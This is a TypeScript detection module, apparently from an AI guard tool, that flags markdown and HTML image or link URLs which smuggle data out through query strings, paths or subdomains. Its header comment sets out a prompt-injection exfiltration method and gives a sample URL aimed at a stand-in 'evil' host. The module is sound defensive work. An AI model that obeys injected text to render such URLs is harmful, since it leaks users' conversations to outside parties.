import { Severity } from "../../../gen/guard/v1/types_pb.js";
import type { Hit } from "../commands/rules/types.js";
import { encodedLabel } from "./dns.js";

/**
 * Markdown images and links whose URL carries data out: a prompt injection asks the model to
 * render `![x](https://evil/p?q=<conversation>)`, and the client fetches the image, sending the
 * data without a click. Judged on the URL alone: long or encoded query values, encoded path
 * segments, data in subdomains. Images weigh more than links, which need a click. Signed-URL
 * parameters (S3, GCS, Azure SAS) are long by design and are ignored.
 */

const MAX_URL = 8192;
const SIGNATURE_PARAMS =
  /^(x-amz-|x-goog-|sig$|signature$|se$|sp$|sv$|sr$|st$|skoid$|sktid$|ske$|sks$|skv$|expires$|key-pair-id$|policy$|hash$)/i;

function looksEncoded(value: string, min: number): boolean {
  if (value.length < min) return false;
  if (!/^[A-Za-z0-9+/=_.%-]+$/.test(value)) return false;
  const hasDigit = /[0-9]/.test(value);
  const hasUpper = /[A-Z]/.test(value);
  const hasLower = /[a-z]/.test(value);
  if (/^[0-9a-f]+$/i.test(value)) return value.length >= 32;
  return hasDigit && hasUpper && hasLower;
}

function safeDecode(value: string): string {
  try {
    return decodeURIComponent(value.replaceAll("+", " "));
  } catch {
    return value;
  }
}

/** Why a URL looks like it carries data, or undefined. */
export function dataInUrl(raw: string): string | undefined {
  let url: URL;
  try {
    url = new URL(raw);
  } catch {
    return undefined;
  }
  if (url.protocol !== "http:" && url.protocol !== "https:") return undefined;
  const labels = url.hostname.split(".");
  if (labels.slice(0, -2).some(encodedLabel)) return "encoded data in the host name";
  for (const [name, value] of url.searchParams) {
    if (SIGNATURE_PARAMS.test(name)) continue;
    const decoded = safeDecode(value);
    if (decoded.length >= 100) return `long value in query parameter ${name}`;
    if (looksEncoded(value, 24)) return `encoded value in query parameter ${name}`;
    if (decoded.length >= 40 && decoded.split(" ").length >= 6) return `text in query parameter ${name}`;
  }
  for (const segment of url.pathname.split("/")) {
    if (looksEncoded(segment, 48)) return "encoded data in the path";
  }
  return undefined;
}

/** End of a URL inside `(...)`: the first space or unbalanced `)`, bounded. */
function urlEnd(text: string, from: number): number {
  let depth = 0;
  const limit = Math.min(text.length, from + MAX_URL);
  for (let k = from; k < limit; k++) {
    const c = text[k];
    if (c === " " || c === "\n" || c === "\t" || c === '"' || c === ">") return k;
    if (c === "(") depth++;
    else if (c === ")") {
      if (depth === 0) return k;
      depth--;
    }
  }
  return limit;
}

/** `![alt](url)`, `[text](url)` and `<img src="url">` whose URL carries data. */
export function markdownExfiltration(text: string): Hit[] {
  const hits: Hit[] = [];
  let at = text.indexOf("](");
  while (at !== -1) {
    const urlStart = at + 2;
    const end = urlEnd(text, urlStart);
    // The `[` is looked for in a bounded window so that many `](` cost linear time.
    const windowStart = Math.max(0, at - 1024);
    const found = text.slice(windowStart, at).lastIndexOf("[");
    const open = found === -1 ? -1 : windowStart + found;
    const image = open > 0 && text[open - 1] === "!";
    const reason = dataInUrl(text.slice(urlStart, end));
    if (reason !== undefined) {
      const start = image ? open - 1 : Math.max(open, 0);
      hits.push({
        rule: image ? "markdown-image" : "markdown-link",
        severity: image ? Severity.HIGH : Severity.MEDIUM,
        score: image ? 0.85 : 0.6,
        start: open === -1 ? urlStart : start,
        end: Math.min(end + 1, text.length),
        reason: `${image ? "image" : "link"} URL carries data: ${reason}`,
      });
    }
    at = text.indexOf("](", Math.max(end, at + 2));
  }
  const lower = text.toLowerCase();
  let img = lower.indexOf("<img");
  while (img !== -1) {
    const tag = lower.slice(img, img + 2048);
    const close = tag.indexOf(">");
    const rel = tag.indexOf("src=");
    const src = rel === -1 ? -1 : img + rel;
    if (rel !== -1 && (close === -1 || rel < close)) {
      const quote = text[src + 4];
      const urlStart = quote === '"' || quote === "'" ? src + 5 : src + 4;
      const end = urlEnd(text, urlStart);
      const reason = dataInUrl(text.slice(urlStart, end));
      if (reason !== undefined) {
        hits.push({
          rule: "html-image",
          severity: Severity.HIGH,
          score: 0.85,
          start: img,
          end,
          reason: `image URL carries data: ${reason}`,
        });
      }
    }
    img = lower.indexOf("<img", img + 4);
  }
  return hits;
}
